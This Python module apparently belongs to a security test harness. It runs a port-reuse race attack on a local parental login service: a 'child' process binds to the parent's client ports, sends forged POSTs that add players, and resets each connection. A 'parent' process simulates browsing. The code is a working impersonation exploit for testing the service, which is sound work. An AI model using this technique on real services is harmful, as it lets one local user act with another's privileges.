"""The two programs of the attack with a reused port (`LoginProgram`).

Options: `role`, "child", "parent" or "secret"; `port` of the door; `own`, the ports that the kernel gives to connections of clients;
`secret`, which the child's forms contain; `seed`. The child has the secret of the parent's forms, which no other login can read on a PC:
so only the identity of the connection protects the parent here. Moments are seconds of the monotonic clock, which all programs share.
"""

import errno
import http.client
import random
import socket
import struct
import time

import form_marks
from logins import is_over, run

# From the end of its request until the child resets the connection, in seconds: at a random moment the service accepts the connection, asks
# whose it is, reads, or carries out the request.
LONGEST_WAIT = 0.003
# The child waits for the answer to one of so many requests: it shows that they are carried out, as the child's.
ANSWERED = 20
NAME = "Attack"
# To this path the child's forms are sent. Its page has a form.
CHILDREN_PATH = "/parent/children"
# A page for parents alone, and quickly made.
PAGE = "/parent/safety/pin"


def reset(connection: socket.socket) -> None:
    """Closes a connection with RST, so that its port is free at once."""
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.close()


def request(port: int, secret: str, name: str) -> bytes:
    """A whole request that only a parent may make: it adds a player."""
    form = form_marks.form(secret, CHILDREN_PATH, f"name={name}")
    return (f"POST {CHILDREN_PATH} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nSec-Fetch-Site: same-origin\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n\r\n{form}").encode()


def attack(port: int, own_ports: list[int], secret: str, chance: random.Random) -> dict:
    """The child: sends requests from ports that connections of this PC get, and leaves each at once."""
    resets: list[tuple[float, int]] = []
    statuses: dict[str, int] = {}
    number = 0
    while not is_over():
        own = chance.choice(own_ports)
        client = socket.socket()
        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        number += 1
        try:
            client.bind(("127.0.0.1", own))
            client.connect(("127.0.0.1", port))
            client.sendall(request(port, secret, f"{NAME}{number}"))
        except OSError:
            # The parent has the port, or the kernel has not yet let go of the last connection with it.
            client.close()
            continue
        if number % ANSWERED == 0:
            count(statuses, client)
        else:
            time.sleep(chance.uniform(0, LONGEST_WAIT))
        reset(client)
        resets.append((time.monotonic(), own))
    return {"resets": resets, "statuses": statuses}


def count(statuses: dict[str, int], client: socket.socket) -> None:
    """Waits for an answer, and counts its status, or the reason why there is none."""
    client.settimeout(60)
    try:
        status = client.recv(1 << 16)[9:12].decode() or "closed"
    except OSError as error:
        status = errno.errorcode.get(error.errno, "timeout")
    statuses[status] = statuses.get(status, 0) + 1


def browse(port: int, _: list[int], __: str, chance: random.Random) -> dict:
    """The parent: opens a page again and again, each time on a new connection, whose port the kernel chooses."""
    connections: list[tuple[float, int]] = []
    statuses: dict[str, int] = {}
    while not is_over():
        client = socket.create_connection(("127.0.0.1", port))
        connections.append((time.monotonic(), client.getsockname()[1]))
        client.sendall(f"GET {PAGE} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
        count(statuses, client)
        reset(client)
        # A browser opens some connections at once, and then none for a while.
        time.sleep(chance.uniform(0, LONGEST_WAIT))
    return {"connections": connections, "statuses": statuses}


def own_secret(port: int, *_: object) -> str:
    """The secret of the forms of this login."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    connection.request("GET", CHILDREN_PATH)
    return form_marks.secret(connection.getresponse().read().decode())


if __name__ == "__main__":
    run(lambda options: {"child": attack, "parent": browse, "secret": own_secret}[options["role"]](
        options["port"], options["own"], options["secret"], random.Random(options["seed"])))
